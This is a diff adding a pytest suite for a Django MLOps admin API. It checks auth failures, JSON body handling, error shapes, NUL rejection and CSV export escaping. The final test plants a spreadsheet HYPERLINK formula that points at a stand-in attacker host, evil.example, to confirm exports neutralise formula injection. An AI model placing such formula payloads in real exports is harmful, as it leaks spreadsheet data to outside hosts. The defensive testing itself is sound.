@@ -1,0 +1,125 @@
+"""The API's contract, for every operation: a bad token is 401 JSON on every method; bodies are JSON
+objects sent as application/json (415/422 otherwise, nothing changed); every error under /api/ is the
+documented `{"detail": ...}` shape, Django's own 404/405/500 included; NUL characters are refused with 400,
+not a 500; MLflow's own 500 is not "not answering"; CSV exports cannot smuggle spreadsheet formulas."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from django.test import Client
+
+from mlopsadmin.core.audit import audit_record
+from mlopsadmin.core.audit_selectors import parse_csv_export
+from mlopsadmin.core.models import ApiToken
+from mlopsadmin.core.services import api_token_create, api_token_revoke
+from mlopsadmin.lib import mlflow_client as mlf
+
+from .faults import FaultProxy
+
+pytestmark = pytest.mark.django_db
+
+
+def operations(client: Client) -> list[tuple[str, str]]:
+    document = client.get("/api/v1/openapi.json").json()
+    found = []
+    for path, item in document["paths"].items():
+        for method in item:
+            found.append((method.upper(), re.sub(r"\{[^}]+\}", "1", path)))
+    return found
+
+
+def assert_json_error(response, status: int) -> dict:  # type: ignore[no-untyped-def]
+    assert response.status_code == status, (response.status_code, response.content[:200])
+    assert response["Content-Type"].startswith("application/json"), response["Content-Type"]
+    body = response.json()
+    assert isinstance(body["detail"], str) and body["detail"]
+    return body
+
+
+def test_a_bad_or_revoked_token_is_401_json_on_every_operation(personas) -> None:
+    _, raw = api_token_create(actor="test", user=personas["lead_search"], name="ci")
+    api_token_revoke(actor="test", user=personas["lead_search"], token_id=ApiToken.objects.get(name="ci").pk)
+    client = Client(enforce_csrf_checks=True)
+    checked = 0
+    for method, path in operations(client):
+        if path.endswith("openapi.json"):
+            continue
+        for header in (f"Bearer {raw}", "Bearer mlops_not-a-token", "Basic dXNlcjpwYXNz"):
+            response = client.generic(
+                method, path, data="{}", content_type="application/json", HTTP_AUTHORIZATION=header
+            )
+            assert_json_error(response, 401)
+            checked += 1
+    assert checked >= 30
+
+
+@pytest.mark.parametrize(
+    ("body", "content_type", "status"),
+    [
+        ("null", "application/json", 422),
+        ("[]", "application/json", 422),
+        ('"3"', "application/json", 422),
+        ('{"version": "3"', "application/json", 422),
+        ('{"version": "3"}', "text/plain", 415),
+        ("version=3", "application/x-www-form-urlencoded", 415),
+        ('{"version": "3", "override_reason": "a\\u0000b"}', "application/json", 422),
+    ],
+)
+def test_a_body_that_is_not_a_json_object_changes_nothing(login, mlflow, body, content_type, status) -> None:
+    before = mlf.get_registered_model("search-ranker").aliases
+    response = login("lead_search").post("/api/v1/models/search-ranker/promote", data=body, content_type=content_type)
+    body = assert_json_error(response, status)
+    assert "JSON" in body["detail"] or "NUL" in body["detail"]  # refused for the body, not by the gate
+    assert mlf.get_registered_model("search-ranker").aliases == before
+
+
+def test_django_404_405_and_500_under_api_are_json(login, monkeypatch) -> None:
+    client = login("admin")
+    assert_json_error(client.get("/api/v1/no-such-endpoint"), 404)
+    body = assert_json_error(client.get("/api/v1/models/search-ranker/promote"), 405)
+    assert "POST" in body["detail"]
+
+    from mlopsadmin import policy
+
+    def broken(*args: object, **kwargs: object) -> None:
+        raise RuntimeError("a bug")
+
+    monkeypatch.setattr(policy, "require", broken)  # a bug inside an operation
+    client.raise_request_exception = False
+    response = client.get("/api/v1/audit-events")
+    assert_json_error(response, 500)
+    assert "a bug" not in response.content.decode()
+
+
+def test_nul_in_a_path_query_or_form_field_is_400(login, personas) -> None:
+    client = login("lead_search")
+    assert client.get("/registry/models/search%00ranker/").status_code == 400
+    assert client.get("/catalog/?q=a%00b").status_code == 400
+    assert_json_error(client.get("/api/v1/registry/models/a%00b"), 400)
+    response = client.post("/account/tokens/", {"name": "ci\x00x"})
+    assert response.status_code == 400
+    assert not personas["lead_search"].api_tokens.exists()
+
+
+def test_mlflows_own_500_is_not_reported_as_not_answering(login, settings, mlflow) -> None:
+    client = login("admin")
+    with FaultProxy(mlflow) as proxy:
+        settings.MLFLOW_TRACKING_URI = proxy.url
+        proxy.fail_with = 500
+        api = client.get("/api/v1/registry/models")
+        page = client.get("/registry/")
+    body = assert_json_error(api, 502)
+    assert "unreachable" not in body["detail"] and "not answering" not in body["detail"]
+    assert page.status_code == 502 and b"not answering" not in page.content
+
+
+def test_csv_cells_cannot_start_a_formula(login, personas) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    audit_record(actor=personas["admin"], action="test.csv", target_kind="model", target_id=formula, reason="@SUM(1)")
+    text = b"".join(login("auditor").get("/audit/export.csv?action=test.csv").streaming_content).decode()
+    assert "'=HYPERLINK" in text and "'@SUM(1)" in text
+    assert not any(cell.startswith(("=", "+", "-", "@")) for line in text.splitlines() for cell in line.split(","))
+    row = parse_csv_export(text)[0]
+    assert (row["target_id"], row["reason"]) == (formula, "@SUM(1)")  # read back exactly
